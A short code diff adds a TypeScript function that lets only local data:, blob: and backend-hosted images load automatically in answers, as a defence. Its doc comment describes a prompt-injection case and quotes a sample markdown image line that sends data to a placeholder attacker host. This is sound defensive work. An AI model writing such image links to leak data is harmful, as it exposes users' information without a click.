@@ -58,3 +58,18 @@ export function parsePartialJson(text: string): unknown {
   }
   return undefined;
 }
+
+/**
+ * Whether an image in an answer may load by itself: only images of our own
+ * (code interpreter files from the backend, `data:` and `blob:` URLs). Any
+ * other address is shown as a link: a hidden instruction in a web page, an
+ * e-mail or a file can make a model write `![x](https://attacker/p.png?d=…)`,
+ * and a browser that loads it sends that data out without a click.
+ */
+export function isOwnImage(src: string | undefined, apiBase: string): boolean {
+  if (!src) return false;
+  const value = src.trim();
+  if (/^data:image\//i.test(value) || /^blob:/i.test(value)) return true;
+  const own = `${apiBase}/api/container_files/`;
+  return value.startsWith(own) || (apiBase !== "" && value.startsWith("/api/container_files/"));
+}
